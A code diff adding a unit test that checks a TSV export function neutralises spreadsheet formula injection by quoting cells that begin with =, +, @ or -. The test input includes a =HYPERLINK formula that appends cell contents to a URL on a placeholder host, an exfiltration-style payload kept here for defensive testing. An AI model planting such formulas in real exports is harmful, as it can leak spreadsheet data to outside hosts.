@@ -38,6 +38,14 @@ describe('export', () => {
     }
   });
 
+  it('TSV defuses formulas as CSV does (copied rows are pasted into spreadsheets)', () => {
+    const cmd = '=HYPERLINK("http://example.invalid/?"&A1,"update")';
+    expect(toTsv(['Command line', 'Process', 'Queue'], [[cmd, '-bash', '-12']])).toBe(
+      `Command line\tProcess\tQueue\n'${cmd}\t'-bash\t-12`,
+    );
+    for (const t of ['+1+1', '@SUM(A1)', '-x']) expect(toTsv(['a'], [[t]])).toBe(`a\n'${t}`);
+  });
+
   it('TSV has a header line and one line per row, a tab or line break in a cell an escape as in the grid', () => {
     expect(
       toTsv(
